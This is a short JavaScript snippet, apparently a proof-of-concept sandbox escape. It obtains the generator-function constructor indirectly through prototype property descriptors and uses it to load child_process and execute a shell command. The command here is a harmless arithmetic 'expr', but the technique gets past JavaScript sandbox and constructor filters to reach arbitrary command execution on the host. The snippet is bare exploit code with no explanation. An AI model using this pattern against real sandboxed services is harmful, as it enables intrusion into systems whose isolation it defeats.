const d=Object.getOwnPropertyDescriptors(Object.getPrototypeOf(function*(){}));
d.constructor.value('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')().next();
